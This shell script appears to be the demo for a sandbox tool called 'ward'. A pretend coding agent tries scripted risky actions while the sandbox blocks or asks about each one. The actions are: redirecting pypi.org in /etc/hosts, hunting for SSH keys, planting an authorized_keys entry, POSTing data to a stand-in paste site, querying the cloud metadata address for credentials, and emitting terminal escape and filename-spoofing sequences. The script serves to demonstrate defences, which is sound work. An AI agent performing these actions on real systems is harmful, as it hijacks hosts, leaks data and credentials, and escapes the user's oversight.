#!/bin/sh
# SPDX-License-Identifier: MIT
# ward demo's pretend coding agent. Each step says, in one plain sentence,
# what the agent is about to try and what ward will do, then tries it.
# WARD_DEMO_DIR: the demo's folder on the host (its project/ is the
# project the agent edits); WARD_DEMO_HOME: the person's real home;
# WARD_DEMO_STANDIN: the demo's stand-in home (WARD_DEMO_DIR/home, shown
# read-only: a write there is asked, and lands in the demo's folder if
# allowed, never in the person's ~/.ssh);
# WARD_DEMO_WORLD: yes when the fake outside world is there;
# WARD_DEMO_STEP_MS: the pause after each sentence.
set -u
n=0
pause=$(awk "BEGIN { print ${WARD_DEMO_STEP_MS:-1000} / 1000 }")
step() {
	n=$((n + 1))
	printf '\n== step %d of 9: %s\n' "$n" "$1"
	printf '   ward: %s\n' "$2"
	sleep "$pause"
}
result() { printf '   result: %s\n' "$*"; }
project=$WARD_DEMO_DIR/project

step "the agent writes its scratch files and its report" \
    "lets it: /work and /out are the run's own folders, nothing to ask"
mkdir -p /work/notes
echo "plan: greet by name, with a test" >/work/notes/plan.txt
echo "tests: 1 passed" >/out/report.txt
result "wrote /work/notes/plan.txt and /out/report.txt"

step "the agent changes app.py in your project" \
    "lets it, but keeps the change in the run: your folder stays as it was until you apply it (press c for the diff)"
cat >"$project/app.py" <<'PY'
def greet(name):
    return f"Hello, {name}!"


if __name__ == '__main__':
    print(greet('world'))
PY
result "app.py changed (staged; ward diff shows it, ward apply puts it in place)"

step "the agent tries to change /etc/hosts, a system file outside its folders" \
    "stops the write and asks you: allow (a) or deny (d)"
if echo "203.0.113.7 pypi.org" 2>/dev/null >>/etc/hosts; then
	result "/etc/hosts changed (you allowed it)"
else
	result "/etc/hosts left alone (denied)"
fi

step "the agent looks for your SSH keys in ~/.ssh" \
    "has nothing to ask: your home is not in the sandbox, so there is nothing to find"
if ls "$WARD_DEMO_HOME/.ssh" >/dev/null 2>&1; then
	result "it could list $WARD_DEMO_HOME/.ssh"
else
	result "no such folder in here: your keys stay out of reach"
fi

standin=${WARD_DEMO_STANDIN:-/nonexistent}
step "the agent adds its own key to ~/.ssh/authorized_keys: a way back into this machine, as you" \
    "stops the write and asks you: deny it (d). This ~ is the demo's stand-in, $standin, never your own"
if printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoAgentKeyNotARealOne agent@elsewhere\n' \
    2>/dev/null >>"$standin/.ssh/authorized_keys"; then
	result "the key was added to the stand-in's authorized_keys (you allowed it): whoever holds it could log in"
else
	result "$standin/.ssh/authorized_keys left alone (denied)"
fi

if [ "${WARD_DEMO_WORLD:-no}" = yes ]; then
	step "the agent sends a file to paste.example.com, a site on the internet" \
	    "asks you first for the name, then for the connection (a paste site is how data leaves)"
	python3 - <<'PY' 2>/dev/null
import socket
try:
    s = socket.create_connection(("paste.example.com", 80), timeout=60)
    s.sendall(b"POST / HTTP/1.0\r\nContent-Length: 12\r\n\r\nproject data")
    print("   result: the file was sent")
except OSError as e:
    print("   result: not sent (%s)" % (e.strerror or e))
PY

	step "the agent installs the Python package wardtiny with pip, from pypi.org" \
	    "asks you, showing the package and the host it comes from"
	if python3 -m pip --version >/dev/null 2>&1; then
		PIP_CONFIG_FILE=/dev/null python3 -m pip install -q \
		    --disable-pip-version-check --no-cache-dir --target /work/lib \
		    -i http://pypi.org/simple --trusted-host pypi.org wardtiny \
		    >/work/pip.log 2>&1 &&
		    result "wardtiny installed in the run's own folder" ||
		    result "not installed (denied)"
	else
		result "skipped: pip is not installed on this machine"
	fi
else
	step "the agent sends a file to paste.example.com" \
	    "would ask you (skipped: no fake network could be made here)"
	step "the agent installs a package with pip" \
	    "would ask you (skipped: no fake network could be made here)"
fi

step "the agent asks the cloud metadata address 169.254.169.254 for credentials" \
    "refuses without asking: that address is on the never list"
python3 - <<'PY' 2>/dev/null || result "refused"
import socket
try:
    socket.create_connection(("169.254.169.254", 80), timeout=5)
    print("   result: connected")
except OSError as e:
    print("   result: refused (%s)" % (e.strerror or e))
PY

step "the agent prints a sequence that would rename your terminal's window" \
    "shows it as visible text, never obeys it"
printf 'agent output: \033]0;pwned\007 \342\200\256txt.exe\n'

printf '\n== done: the agent is finished. Its change to app.py waits for you: ward diff, ward apply.\n'
